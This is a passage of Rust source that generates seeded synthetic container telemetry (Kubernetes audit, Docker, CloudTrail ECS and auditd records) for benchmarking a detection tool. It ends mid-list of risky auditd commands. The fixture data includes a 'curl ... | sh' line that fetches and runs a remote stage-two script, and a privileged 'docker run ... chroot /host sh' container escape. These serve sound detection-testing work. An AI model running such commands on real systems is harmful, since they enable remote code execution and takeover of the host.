//! Seeded corpora of container telemetry at realistic sizes, for `crowsnest bench`.
//!
//! Every generator is deterministic in its seed (a splitmix64 stream) and writes records
//! in the documented shapes the decoders read (`samples/*/README.md`):
//!
//! - Kubernetes audit, `audit.k8s.io/v1` events at `RequestResponse` level, about 1.8 KB
//!   on average: pod creates with full request and response bodies (a few privileged,
//!   with hostPath or host namespaces, some with init containers), execs, gets with their
//!   response objects, lists, watches and deployment patches.
//! - Docker events (`docker events --format '{{json .}}'`), about 350 B: create, start,
//!   exec, die and destroy lifecycles, image pulls.
//! - CloudTrail ECS management events, about 2 KB: RunTask, RegisterTaskDefinition,
//!   DescribeTasks, DescribeServices, ListTasks, StopTask, ExecuteCommand.
//! - auditd `execve` events as the kernel writes them (`SYSCALL`, `EXECVE`, `CWD`, `PATH`,
//!   `PROCTITLE`, `EOE`), some of them `docker run`.
//! - VPC flow log lines in the default v2 format.
//!
//! A few per cent of each corpus is risky, so rules fire as they would on a real cluster.

use std::fmt::Write as _;
use std::fs;
use std::path::Path;

use serde_json::{Value, json};

/// One corpus: NDJSON (or text lines), one record per line.
pub(crate) struct Corpus {
    /// Short name for tables and file names (`k8s_audit`).
    pub(crate) name: &'static str,
    /// The records, each followed by `\n`.
    pub(crate) bytes: Vec<u8>,
    pub(crate) records: usize,
}

impl Corpus {
    fn from_lines(name: &'static str, lines: impl IntoIterator<Item = String>) -> Corpus {
        let mut bytes = Vec::new();
        let mut records = 0;
        for line in lines {
            bytes.extend_from_slice(line.as_bytes());
            bytes.push(b'\n');
            records += 1;
        }
        Corpus {
            name,
            bytes,
            records,
        }
    }

    /// The records, without their line breaks.
    pub(crate) fn lines(&self) -> impl Iterator<Item = &[u8]> {
        self.bytes
            .strip_suffix(b"\n")
            .unwrap_or(&self.bytes)
            .split(|b| *b == b'\n')
            .filter(|l| !l.is_empty())
    }

    /// Average record size in bytes (line break excluded).
    pub(crate) fn average_bytes(&self) -> f64 {
        (self.bytes.len() - self.records) as f64 / self.records.max(1) as f64
    }
}

/// splitmix64 (Steele, Lea, Flood 2014): tiny, fast and good enough to pick shapes.
pub(crate) struct Rng(u64);

impl Rng {
    pub(crate) fn new(seed: u64) -> Rng {
        Rng(seed)
    }

    pub(crate) fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (n > 0).
    pub(crate) fn below(&mut self, n: u64) -> u64 {
        ((u128::from(self.next_u64()) * u128::from(n)) >> 64) as u64
    }

    /// True with probability `per_mille / 1000`.
    fn chance(&mut self, per_mille: u64) -> bool {
        self.below(1000) < per_mille
    }

    fn pick<'a, T: ?Sized>(&mut self, items: &[&'a T]) -> &'a T {
        items[self.below(items.len() as u64) as usize]
    }

    fn hex(&mut self, len: usize) -> String {
        let mut s = String::with_capacity(len);
        while s.len() < len {
            let _ = write!(s, "{:016x}", self.next_u64());
        }
        s.truncate(len);
        s
    }

    fn uuid(&mut self) -> String {
        let h = self.hex(32);
        format!(
            "{}-{}-4{}-{}-{}",
            &h[..8],
            &h[8..12],
            &h[13..16],
            &h[16..20],
            &h[20..32]
        )
    }

    /// Lowercase letters and digits, as Kubernetes' generated name suffixes.
    fn suffix(&mut self, len: usize) -> String {
        const ALPHABET: &[u8] = b"bcdfghjklmnpqrstvwxz2456789";
        (0..len)
            .map(|_| ALPHABET[self.below(ALPHABET.len() as u64) as usize] as char)
            .collect()
    }
}

/// Event time: starts at 2024-05-14T09:00:00Z and moves forward a little per record.
struct Clock {
    micros: i64,
}

impl Clock {
    fn new() -> Clock {
        Clock {
            micros: 1_715_677_200_000_000,
        }
    }

    fn tick(&mut self, rng: &mut Rng, max_ms: u64) -> i64 {
        self.micros += 1 + rng.below(max_ms * 1000) as i64;
        self.micros
    }
}

/// `2024-05-14T09:12:03.512345Z`.
fn rfc3339_micros(micros: i64) -> String {
    let secs = micros.div_euclid(1_000_000);
    format!(
        "{}.{:06}Z",
        rfc3339_secs(secs).trim_end_matches('Z'),
        micros.rem_euclid(1_000_000)
    )
}

/// `2024-05-14T09:12:03Z`.
fn rfc3339_secs(secs: i64) -> String {
    crowsnest_transform::time::format_rfc3339_seconds(secs * 1_000_000_000)
}

// ---------------------------------------------------------------- Kubernetes audit

const NAMESPACES: &[&str] = &[
    "web",
    "prod",
    "payments",
    "data",
    "ci",
    "monitoring",
    "default",
];
const APPS: &[&str] = &[
    "nginx", "api", "checkout", "worker", "redis", "postgres", "frontend", "ingest", "auth",
    "search",
];
const IMAGES: &[&str] = &[
    "nginxinc/nginx-unprivileged:1.25",
    "registry.example.com:5000/shop/api:4.2.1",
    "registry.example.com:5000/shop/checkout:2.0.7",
    "registry.example.com:5000/data/worker:1.9.0",
    "redis:7.2.4",
    "postgres:16.2",
    "registry.example.com:5000/web/frontend:3.3.0",
    "ghcr.io/example/ingest:0.14.2",
];
const USERS: &[&str] = &[
    "alice@example.com",
    "bob@example.com",
    "carol@example.com",
    "dave@example.com",
];

struct K8sUser {
    username: String,
    groups: Vec<&'static str>,
    agent: &'static str,
    ip: &'static str,
    reason: String,
}

fn controller(name: &str) -> K8sUser {
    K8sUser {
        username: format!("system:serviceaccount:kube-system:{name}"),
        groups: vec![
            "system:serviceaccounts",
            "system:serviceaccounts:kube-system",
            "system:authenticated",
        ],
        agent: "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3968350",
        ip: "10.0.0.10",
        reason: format!(
            "RBAC: allowed by ClusterRoleBinding \"system:controller:{name}\" of ClusterRole \
             \"system:controller:{name}\" to ServiceAccount \"{name}/kube-system\""
        ),
    }
}

fn human(rng: &mut Rng) -> K8sUser {
    K8sUser {
        username: rng.pick(USERS).to_string(),
        groups: vec!["oidc:developers", "system:authenticated"],
        agent: "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
        ip: rng.pick(&["198.51.100.23", "198.51.100.41", "203.0.113.77"]),
        reason: "RBAC: allowed by RoleBinding \"developers/web\" of ClusterRole \"edit\" to \
                 Group \"oidc:developers\""
            .to_string(),
    }
}

#[allow(clippy::too_many_arguments)] // one audit event's parts, named at each call
fn audit_event(
    rng: &mut Rng,
    clock: &mut Clock,
    user: &K8sUser,
    verb: &str,
    uri: String,
    object_ref: Value,
    code: u16,
    bodies: Option<(Value, Value)>,
) -> String {
    let received = clock.tick(rng, 40);
    let completed = received + 1_000 + rng.below(30_000) as i64;
    let mut event = json!({
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": if bodies.is_some() { "RequestResponse" } else { "Metadata" },
        "auditID": rng.uuid(),
        // An upgraded exec (101) is logged at `ResponseStarted` when the session opens;
        // its `ResponseComplete` comes when the session ends, later than this corpus runs.
        "stage": if code == 101 { "ResponseStarted" } else { "ResponseComplete" },
        "requestURI": uri,
        "verb": verb,
        "user": {"username": user.username, "groups": user.groups},
        "sourceIPs": [user.ip],
        "userAgent": user.agent,
        "objectRef": object_ref,
        "responseStatus": {"metadata": {}, "code": code},
    });
    let map = event.as_object_mut().expect("an object");
    if let Some((request, response)) = bodies {
        if !request.is_null() {
            map.insert("requestObject".into(), request);
        }
        if !response.is_null() {
            map.insert("responseObject".into(), response);
        }
    }
    map.insert(
        "requestReceivedTimestamp".into(),
        rfc3339_micros(received).into(),
    );
    map.insert("stageTimestamp".into(), rfc3339_micros(completed).into());
    map.insert(
        "annotations".into(),
        json!({
            "authorization.k8s.io/decision": "allow",
            "authorization.k8s.io/reason": user.reason,
        }),
    );
    event.to_string()
}

/// Risk a pod create carries, if any.
#[derive(Clone, Copy, PartialEq)]
enum PodRisk {
    None,
    Privileged,
    HostPath,
    HostNamespaces,
}

fn container_spec(name: &str, image: &str, risk: PodRisk, token_volume: Option<&str>) -> Value {
    let mut c = json!({
        "name": name,
        "image": image,
        "ports": [{"containerPort": 8080, "protocol": "TCP"}],
        "env": [{"name": "LOG_LEVEL", "value": "info"}, {"name": "PORT", "value": "8080"}],
        "resources": {"limits": {"cpu": "500m", "memory": "256Mi"},
                      "requests": {"cpu": "100m", "memory": "128Mi"}},
        "terminationMessagePath": "/dev/termination-log",
        "terminationMessagePolicy": "File",
        "imagePullPolicy": "IfNotPresent",
    });
    let map = c.as_object_mut().expect("an object");
    let mut mounts = Vec::new();
    if risk == PodRisk::HostPath {
        mounts.push(json!({"name": "docker-sock", "mountPath": "/var/run/docker.sock"}));
    }
    if let Some(volume) = token_volume {
        mounts.push(json!({"name": volume, "readOnly": true,
                           "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}));
    }
    if !mounts.is_empty() {
        map.insert("volumeMounts".into(), mounts.into());
    }
    map.insert(
        "securityContext".into(),
        if risk == PodRisk::Privileged {
            json!({"privileged": true})
        } else {
            json!({"capabilities": {"drop": ["ALL"]}, "readOnlyRootFilesystem": true,
                   "allowPrivilegeEscalation": false})
        },
    );
    c
}

fn pod_body(
    rng: &mut Rng,
    app: &str,
    namespace: &str,
    image: &str,
    risk: PodRisk,
    init: bool,
    response: Option<(&str, &str)>,
) -> Value {
    let hash = format!("{:x}", rng.below(0xff_ffff_ffff) | 0x10_0000_0000);
    let token = response.map(|_| format!("kube-api-access-{}", rng.suffix(5)));
    let mut spec = json!({
        "containers": [container_spec(app, image, risk, token.as_deref())],
        "restartPolicy": "Always",
        "terminationGracePeriodSeconds": 30,
        "dnsPolicy": "ClusterFirst",
        "securityContext": {"runAsNonRoot": risk == PodRisk::None, "seccompProfile": {"type": "RuntimeDefault"}},
        "schedulerName": "default-scheduler",
        "enableServiceLinks": true,
        "preemptionPolicy": "PreemptLowerPriority",
    });
    let s = spec.as_object_mut().expect("an object");
    if init {
        s.insert(
            "initContainers".into(),
            json!([{"name": "migrate", "image": image, "command": ["/app/migrate", "--up"],
                    "resources": {}, "terminationMessagePath": "/dev/termination-log",
                    "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent"}]),
        );
    }
    let mut volumes = Vec::new();
    if risk == PodRisk::HostPath {
        volumes.push(json!({"name": "docker-sock",
                            "hostPath": {"path": "/var/run/docker.sock", "type": "Socket"}}));
    }
    if risk == PodRisk::HostNamespaces {
        s.insert("hostPID".into(), true.into());
        s.insert("hostNetwork".into(), true.into());
    }
    if let Some(volume) = &token {
        volumes.push(json!({"name": volume, "projected": {"sources": [
            {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
            {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}}
        ], "defaultMode": 420}}));
        s.insert("serviceAccountName".into(), "default".into());
        s.insert(
            "tolerations".into(),
            json!([{"key": "node.kubernetes.io/not-ready", "operator": "Exists",
                    "effect": "NoExecute", "tolerationSeconds": 300}]),
        );
    }
    if !volumes.is_empty() {
        s.insert("volumes".into(), volumes.into());
    }
    let mut metadata = json!({
        "generateName": format!("{app}-{hash}-"),
        "namespace": namespace,
        "labels": {"app": app, "pod-template-hash": hash},
        "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet",
                              "name": format!("{app}-{hash}"), "controller": true}],
    });
    if let Some((name, uid)) = response {
        let m = metadata.as_object_mut().expect("an object");
        m.insert("name".into(), name.into());
        m.insert("uid".into(), uid.into());
        m.insert(
            "resourceVersion".into(),
            (900_000 + rng.below(100_000)).to_string().into(),
        );
    }
    let mut pod = json!({"kind": "Pod", "apiVersion": "v1", "metadata": metadata, "spec": spec});
    if response.is_some() {
        pod["status"] = json!({"phase": "Pending", "qosClass": "Burstable"});
    }
    pod
}

/// Kubernetes audit events, `count` of them.
pub(crate) fn k8s_audit(seed: u64, count: usize) -> Corpus {
    let mut rng = Rng::new(seed ^ 0x6b38_735f_6175_6469);
    let mut clock = Clock::new();
    let mut pods: Vec<(String, String)> = Vec::new();
    let lines = (0..count).map(|_| {
        let namespace = rng.pick(NAMESPACES);
        let app = rng.pick(APPS);
        let roll = rng.below(1000);
        if roll < 210 || pods.is_empty() {
            // A pod create: usually the ReplicaSet controller, sometimes a person.
            let risk = match rng.below(1000) {
                0..20 => PodRisk::Privileged,
                20..35 => PodRisk::HostPath,
                35..45 => PodRisk::HostNamespaces,
                _ => PodRisk::None,
            };
            let user = if risk != PodRisk::None || rng.chance(100) {
                human(&mut rng)
            } else {
                controller("replicaset-controller")
            };
            let image = rng.pick(IMAGES);
            let init = rng.chance(150);
            let name = format!(
                "{app}-{:x}-{}",
                rng.below(0xff_ffff_ffff) | 0x10_0000_0000,
                rng.suffix(5)
            );
            let uid = rng.uuid();
            let request = pod_body(&mut rng, app, namespace, image, risk, init, None);
            let response = pod_body(
                &mut rng,
                app,
                namespace,
                image,
                risk,
                init,
                Some((&name, &uid)),
            );
            if pods.len() < 4096 {
                pods.push((namespace.to_string(), name));
            } else {
                let at = rng.below(pods.len() as u64) as usize;
                pods[at] = (namespace.to_string(), name);
            }
            audit_event(
                &mut rng,
                &mut clock,
                &user,
                "create",
                format!("/api/v1/namespaces/{namespace}/pods"),
                json!({"resource": "pods", "namespace": namespace, "apiVersion": "v1"}),
                201,
                Some((request, response)),
            )
        } else if roll < 235 {
            // kubectl exec.
            let (ns, pod) = pods[rng.below(pods.len() as u64) as usize].clone();
            let user = human(&mut rng);
            let command = rng.pick(&["sh", "bash", "env", "cat"]);
            audit_event(
                &mut rng,
                &mut clock,
                &user,
                "create",
                format!(
                    "/api/v1/namespaces/{ns}/pods/{pod}/exec?command={command}\u{26}container={}\u{26}stdin=true\u{26}stdout=true\u{26}tty=true",
                    pod.split('-').next().unwrap_or("app")
                ),
                json!({"resource": "pods", "namespace": ns, "name": pod,
                       "apiVersion": "v1", "subresource": "exec"}),
                101,
                None,
            )
        } else if roll < 550 {
            // A workload reads its configuration.
            let name = format!("{app}-config");
            let user = K8sUser {
                username: format!("system:serviceaccount:{namespace}:{app}"),
                groups: vec!["system:serviceaccounts", "system:authenticated"],
                agent: "Go-http-client/2.0",
                ip: "10.244.2.31",
                reason: format!(
                    "RBAC: allowed by RoleBinding \"{app}-config-reader/{namespace}\" of Role \
                     \"config-reader\" to ServiceAccount \"{app}/{namespace}\""
                ),
            };
            let response = json!({
                "kind": "ConfigMap", "apiVersion": "v1",
                "metadata": {"name": name, "namespace": namespace, "uid": rng.uuid(),
                             "resourceVersion": (800_000 + rng.below(100_000)).to_string(),
                             "creationTimestamp": "2024-05-01T10:00:00Z",
                             "labels": {"app": app, "app.kubernetes.io/part-of": "shop"}},
                "data": {"LOG_LEVEL": "info", "FEATURE_FLAGS": "checkout-v2,search-boost",
                         "UPSTREAM_URL": format!("http://{app}.{namespace}.svc.cluster.local:8080"),
                         "CACHE_TTL": "300"}
            });
            audit_event(
                &mut rng,
                &mut clock,
                &user,
                "get",
                format!("/api/v1/namespaces/{namespace}/configmaps/{name}"),
                json!({"resource": "configmaps", "namespace": namespace, "name": name,
                       "apiVersion": "v1"}),
                200,
                Some((Value::Null, response)),
            )
        } else if roll < 700 {
            let user = controller(rng.pick(&[
                "replicaset-controller",
                "endpointslice-controller",
                "deployment-controller",
            ]));
            audit_event(
                &mut rng,
                &mut clock,
                &user,
                "list",
                "/api/v1/pods?limit=500\u{26}resourceVersion=0".to_string(),
                json!({"resource": "pods", "apiVersion": "v1"}),
                200,
                None,
            )
        } else if roll < 850 {
            let user = controller("endpointslice-controller");
            let uri = format!(
                "/api/v1/namespaces/{namespace}/endpoints?allowWatchBookmarks=true\u{26}resourceVersion={}\u{26}timeout=8m21s\u{26}watch=true",
                900_000 + rng.below(100_000)
            );
            audit_event(
                &mut rng,
                &mut clock,
                &user,
                "watch",
                uri,
                json!({"resource": "endpoints", "namespace": namespace, "apiVersion": "v1"}),
                200,
                None,
            )
        } else {
            // A rollout: patch a deployment's image.
            let user = if rng.chance(500) {
                human(&mut rng)
            } else {
                K8sUser {
                    username: "system:serviceaccount:argocd:argocd-application-controller"
                        .to_string(),
                    groups: vec!["system:serviceaccounts", "system:authenticated"],
                    agent: "argocd-application-controller/v2.11.0",
                    ip: "10.244.1.12",
                    reason: "RBAC: allowed by ClusterRoleBinding \"argocd-application-controller\""
                        .to_string(),
                }
            };
            let image = rng.pick(IMAGES);
            let request = json!({"spec": {"template": {"spec": {"containers":
                [{"name": app, "image": image}]}}}});
            let response = json!({
                "kind": "Deployment", "apiVersion": "apps/v1",
                "metadata": {"name": app, "namespace": namespace, "uid": rng.uuid(),
                             "resourceVersion": (900_000 + rng.below(100_000)).to_string(),
                             "generation": 1 + rng.below(40), "labels": {"app": app}},
                "spec": {"replicas": 3, "selector": {"matchLabels": {"app": app}},
                         "template": {"metadata": {"labels": {"app": app}},
                                      "spec": {"containers": [container_spec(app, image, PodRisk::None, None)],
                                               "restartPolicy": "Always"}},
                         "strategy": {"type": "RollingUpdate",
                                      "rollingUpdate": {"maxUnavailable": "25%", "maxSurge": "25%"}}},
                "status": {"observedGeneration": 7, "replicas": 3, "readyReplicas": 3}
            });
            audit_event(
                &mut rng,
                &mut clock,
                &user,
                "patch",
                format!("/apis/apps/v1/namespaces/{namespace}/deployments/{app}"),
                json!({"resource": "deployments", "namespace": namespace, "name": app,
                       "apiGroup": "apps", "apiVersion": "v1"}),
                200,
                Some((request, response)),
            )
        }
    });
    let lines: Vec<String> = lines.collect();
    Corpus::from_lines("k8s_audit", lines)
}

// ---------------------------------------------------------------- Docker events

const DOCKER_IMAGES: &[&str] = &[
    "nginx:1.25.3",
    "redis:7.2.4",
    "postgres:16.2",
    "registry.example.com:5000/ops/node-agent:2.1",
    "registry.example.com:5000/shop/api:4.2.1",
    "alpine:3.19",
];

struct DockerContainer {
    id: String,
    image: &'static str,
    name: String,
}

fn docker_event(
    rng: &mut Rng,
    clock: &mut Clock,
    c: &DockerContainer,
    action: &str,
    extra: &[(&str, String)],
) -> String {
    let micros = clock.tick(rng, 30);
    let mut attributes = serde_json::Map::new();
    for (key, value) in extra {
        attributes.insert((*key).into(), value.clone().into());
    }
    attributes.insert("image".into(), c.image.into());
    attributes.insert("name".into(), c.name.clone().into());
    json!({
        "status": action, "id": c.id, "from": c.image, "Type": "container", "Action": action,
        "Actor": {"ID": c.id, "Attributes": attributes},
        "scope": "local", "time": micros / 1_000_000,
        "timeNano": micros * 1000 + rng.below(1000) as i64,
    })
    .to_string()
}

fn new_container(rng: &mut Rng, serial: usize) -> DockerContainer {
    let image = rng.pick(DOCKER_IMAGES);
    let base = image
        .rsplit('/')
        .next()
        .and_then(|i| i.split(':').next())
        .unwrap_or("app");
    DockerContainer {
        id: rng.hex(64),
        image,
        name: format!("{base}-{serial}"),
    }
}

/// Docker events, `count` of them: interleaved container lifecycles.
pub(crate) fn docker_events(seed: u64, count: usize) -> Corpus {
    let mut rng = Rng::new(seed ^ 0x646f_636b_6572_0001);
    let mut clock = Clock::new();
    let mut live: Vec<DockerContainer> = Vec::new();
    let mut lines = Vec::with_capacity(count);
    let mut serial = 0;
    while lines.len() < count {
        let roll = rng.below(1000);
        if roll < 350 || live.len() < 8 {
            serial += 1;
            let c = new_container(&mut rng, serial);
            lines.push(docker_event(&mut rng, &mut clock, &c, "create", &[]));
            lines.push(docker_event(&mut rng, &mut clock, &c, "start", &[]));
            live.push(c);
        } else if roll < 380 {
            let c = &live[rng.below(live.len() as u64) as usize];
            let command = rng.pick(&["/bin/sh -c id", "cat /etc/os-release", "ps aux"]);
            let exec_id = rng.hex(64);
            let action = format!("exec_create: {command}");
            lines.push(docker_event(
                &mut rng,
                &mut clock,
                c,
                &action,
                &[("execID", exec_id.clone())],
            ));
            let action = format!("exec_start: {command}");
            lines.push(docker_event(
                &mut rng,
                &mut clock,
                c,
                &action,
                &[("execID", exec_id)],
            ));
        } else if roll < 700 {
            let at = rng.below(live.len() as u64) as usize;
            let c = live.swap_remove(at);
            let code = rng.pick(&["0", "0", "0", "1", "137", "143"]).to_string();
            let duration = (1 + rng.below(86_400)).to_string();
            lines.push(docker_event(
                &mut rng,
                &mut clock,
                &c,
                "die",
                &[("execDuration", duration), ("exitCode", code)],
            ));
            lines.push(docker_event(&mut rng, &mut clock, &c, "destroy", &[]));
        } else {
            let c = &live[rng.below(live.len() as u64) as usize];
            lines.push(docker_event(
                &mut rng,
                &mut clock,
                c,
                "health_status: healthy",
                &[],
            ));
        }
    }
    lines.truncate(count);
    Corpus::from_lines("docker_event", lines)
}

/// `containers` live containers: a create and a start each, never a stop. What the state
/// table holds is then one entry per container.
pub(crate) fn docker_live_containers(seed: u64, containers: usize) -> Corpus {
    let mut rng = Rng::new(seed ^ 0x6c69_7665_0000_0002);
    let mut clock = Clock::new();
    let mut lines = Vec::with_capacity(containers * 2);
    for serial in 0..containers {
        let c = new_container(&mut rng, serial);
        lines.push(docker_event(&mut rng, &mut clock, &c, "create", &[]));
        lines.push(docker_event(&mut rng, &mut clock, &c, "start", &[]));
    }
    Corpus::from_lines("docker_live", lines)
}

// ---------------------------------------------------------------- CloudTrail ECS

fn trail_event(
    rng: &mut Rng,
    clock: &mut Clock,
    name: &str,
    read_only: bool,
    request: Value,
    response: Value,
) -> String {
    let secs = clock.tick(rng, 400) / 1_000_000;
    let (identity, agent) = if rng.chance(700) {
        (
            json!({"type": "AssumedRole", "principalId": "AROA3EXAMPLEROLEID07:ecs-deployer",
                   "arn": "arn:aws:sts::111122223333:assumed-role/ci-deployer/ecs-deployer",
                   "accountId": "111122223333", "accessKeyId": "ASIA3EXAMPLEKEY00007",
                   "sessionContext": {"sessionIssuer": {"type": "Role",
                       "principalId": "AROA3EXAMPLEROLEID07",
                       "arn": "arn:aws:iam::111122223333:role/ci-deployer",
                       "accountId": "111122223333", "userName": "ci-deployer"},
                     "webIdFederationData": {},
                     "attributes": {"creationDate": rfc3339_secs(secs - 600), "mfaAuthenticated": "false"}}}),
            "aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.2 md/GOOS#linux md/GOARCH#amd64 api/ecs#1.41.7",
        )
    } else {
        (
            json!({"type": "IAMUser", "principalId": "AIDA3EXAMPLEUSERID01",
                   "arn": "arn:aws:iam::111122223333:user/deploy-bot",
                   "accountId": "111122223333", "accessKeyId": "AKIA3EXAMPLEKEY00002",
                   "userName": "deploy-bot"}),
            "aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux#6.5.0-1018-aws md/arch#x86_64 lang/python#3.11.8",
        )
    };
    json!({
        "eventVersion": "1.09", "userIdentity": identity, "eventTime": rfc3339_secs(secs),
        "eventSource": "ecs.amazonaws.com", "eventName": name, "awsRegion": "us-east-1",
        "sourceIPAddress": "203.0.113.10", "userAgent": agent,
        "requestParameters": request, "responseElements": response,
        "requestID": rng.uuid(), "eventID": rng.uuid(), "readOnly": read_only,
        "eventType": "AwsApiCall", "managementEvent": true,
        "recipientAccountId": "111122223333", "eventCategory": "Management",
        "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                       "clientProvidedHostHeader": "ecs.us-east-1.amazonaws.com"}
    })
    .to_string()
}

const ECS_FAMILIES: &[&str] = &["web", "api", "worker", "node-agent", "billing"];
const ECS_IMAGES: &[&str] = &[
    "public.ecr.aws/nginx/nginx:1.25.3",
    "111122223333.dkr.ecr.us-east-1.amazonaws.com/shop/api:4.2.1",
    "111122223333.dkr.ecr.us-east-1.amazonaws.com/data/worker:1.9.0",
    "111122223333.dkr.ecr.us-east-1.amazonaws.com/ops/node-agent:2.1",
];

/// CloudTrail ECS management events, one per line, `count` of them.
pub(crate) fn cloudtrail_ecs(seed: u64, count: usize) -> Corpus {
    let mut rng = Rng::new(seed ^ 0x636c_6f75_6474_7261);
    let mut clock = Clock::new();
    let arn = "arn:aws:ecs:us-east-1:111122223333";
    let lines: Vec<String> = (0..count)
        .map(|_| {
            let family = rng.pick(ECS_FAMILIES);
            let image = rng.pick(ECS_IMAGES);
            let task = rng.hex(32);
            let revision = 1 + rng.below(30);
            match rng.below(1000) {
                0..450 => {
                    let risky = rng.chance(40);
                    let mut request = json!({"cluster": "prod-ecs", "count": 1,
                        "taskDefinition": format!("{family}:{revision}"), "launchType": "FARGATE",
                        "startedBy": "ecs-deployer", "enableECSManagedTags": true,
                        "networkConfiguration": {"awsvpcConfiguration": {
                            "subnets": ["subnet-0a1b2c3d4e5f60718"], "securityGroups": ["sg-0123456789abcdef0"],
                            "assignPublicIp": "DISABLED"}}});
                    if risky {
                        request["enableExecuteCommand"] = true.into();
                        request["overrides"] = json!({"containerOverrides": [{"name": family,
                            "command": ["curl -fsSL http://203.0.113.50:4444/stage2.sh | sh"]}]});
                    }
                    let response = json!({"tasks": [{
                        "taskArn": format!("{arn}:task/prod-ecs/{task}"),
                        "clusterArn": format!("{arn}:cluster/prod-ecs"),
                        "taskDefinitionArn": format!("{arn}:task-definition/{family}:{revision}"),
                        "lastStatus": "PROVISIONING", "desiredStatus": "RUNNING",
                        "launchType": "FARGATE", "startedBy": "ecs-deployer",
                        "createdAt": "May 14, 2024, 9:21:29 AM", "version": 1, "cpu": "256", "memory": "512",
                        "containers": [{"containerArn": format!("{arn}:container/prod-ecs/{task}/{}", rng.uuid()),
                            "taskArn": format!("{arn}:task/prod-ecs/{task}"), "name": family,
                            "image": image, "lastStatus": "PENDING", "networkInterfaces": [],
                            "cpu": "256", "memory": "512"}]}], "failures": []});
                    trail_event(&mut rng, &mut clock, "RunTask", false, request, response)
                }
                450..650 => {
                    let privileged = rng.chance(40);
                    let request = json!({"family": family, "networkMode": "awsvpc",
                        "requiresCompatibilities": ["FARGATE"], "cpu": "512", "memory": "1024",
                        "executionRoleArn": "arn:aws:iam::111122223333:role/ecsTaskExecutionRole",
                        "taskRoleArn": format!("arn:aws:iam::111122223333:role/{family}-task"),
                        "containerDefinitions": [
                          {"name": family, "image": image, "essential": true, "privileged": privileged,
                           "portMappings": [{"containerPort": 8080, "protocol": "tcp"}],
                           "environment": [{"name": "LOG_LEVEL", "value": "info"}, {"name": "REGION", "value": "us-east-1"}],
                           "logConfiguration": {"logDriver": "awslogs", "options": {
                               "awslogs-group": format!("/ecs/{family}"), "awslogs-region": "us-east-1",
                               "awslogs-stream-prefix": "ecs"}},
                           "readonlyRootFilesystem": !privileged},
                          {"name": "log-router", "image": "public.ecr.aws/aws-observability/aws-for-fluent-bit:2.32.0",
                           "essential": false, "firelensConfiguration": {"type": "fluentbit"}}]});
                    let response = json!({"taskDefinition": {
                        "taskDefinitionArn": format!("{arn}:task-definition/{family}:{revision}"),
                        "family": family, "revision": revision, "status": "ACTIVE", "networkMode": "awsvpc"}});
                    trail_event(&mut rng, &mut clock, "RegisterTaskDefinition", false, request, response)
                }
                650..820 => {
                    let request = json!({"cluster": "prod-ecs",
                        "tasks": [format!("{arn}:task/prod-ecs/{task}"), format!("{arn}:task/prod-ecs/{}", rng.hex(32))],
                        "include": ["TAGS"]});
                    trail_event(&mut rng, &mut clock, "DescribeTasks", true, request, Value::Null)
                }
                820..900 => {
                    let request = json!({"cluster": "prod-ecs", "services": [family, "web", "api"],
                        "include": ["TAGS"]});
                    trail_event(&mut rng, &mut clock, "DescribeServices", true, request, Value::Null)
                }
                900..960 => {
                    let request = json!({"cluster": "prod-ecs", "family": family,
                        "desiredStatus": "RUNNING", "maxResults": 100});
                    trail_event(&mut rng, &mut clock, "ListTasks", true, request, Value::Null)
                }
                960..990 => {
                    let request = json!({"cluster": "prod-ecs", "task": task,
                        "reason": "Scaling activity initiated by deployment ecs-svc/1234567890"});
                    let response = json!({"task": {"taskArn": format!("{arn}:task/prod-ecs/{task}"),
                        "lastStatus": "RUNNING", "desiredStatus": "STOPPED",
                        "stopCode": "UserInitiated", "stoppedReason": "Scaling activity"}});
                    trail_event(&mut rng, &mut clock, "StopTask", false, request, response)
                }
                _ => {
                    let request = json!({"cluster": "prod-ecs", "container": family,
                        "command": "/bin/sh", "interactive": true, "task": task});
                    let response = json!({"clusterArn": format!("{arn}:cluster/prod-ecs"),
                        "containerName": family, "interactive": true,
                        "session": {"sessionId": format!("ecs-execute-command-{}", rng.hex(17)),
                                    "streamUrl": "wss://ssmmessages.us-east-1.amazonaws.com/v1/data-channel/ecs-execute-command",
                                    "tokenValue": "HIDDEN_DUE_TO_SECURITY_REASONS"},
                        "taskArn": format!("{arn}:task/prod-ecs/{task}")});
                    trail_event(&mut rng, &mut clock, "ExecuteCommand", false, request, response)
                }
            }
        })
        .collect();
    Corpus::from_lines("cloudtrail", lines)
}

// ---------------------------------------------------------------- auditd

fn hex_upper(bytes: &[u8]) -> String {
    let mut s = String::with_capacity(bytes.len() * 2);
    for b in bytes {
        let _ = write!(s, "{b:02X}");
    }
    s
}

/// An `EXECVE` argument as the kernel writes it: quoted, or hex when it holds a space,
/// a quote or a control byte.
fn audit_arg(arg: &str) -> String {
    if arg.bytes().any(|b| b <= b' ' || b == b'"' || b >= 0x7f) {
        hex_upper(arg.as_bytes())
    } else {
        format!("\"{arg}\"")
    }
}

const BENIGN_COMMANDS: &[&[&str]] = &[
    &["ls", "-la", "/var/log"],
    &["python3", "report.py", "--month", "2024-04"],
    &["systemctl", "status", "nginx"],
    &["curl", "-s", "https://api.example.com/health"],
    &["git", "pull", "--ff-only"],
    &["grep", "-r", "ERROR", "/var/log/app"],
    &["docker", "ps", "--format", "{{.Names}}"],
    &["docker", "logs", "--tail", "100", "web"],
    &[
        "docker",
        "run",
        "--rm",
        "alpine:3.19",
        "echo",
        "hello world",
    ],
];

const RISKY_COMMANDS: &[&[&str]] = &[
    &[
        "docker",
        "run",
        "--privileged",
        "--pid=host",
        "-v",
        "/:/host",
        "alpine:3.19",
        "chroot",
        "/host",
        "sh",
    ],
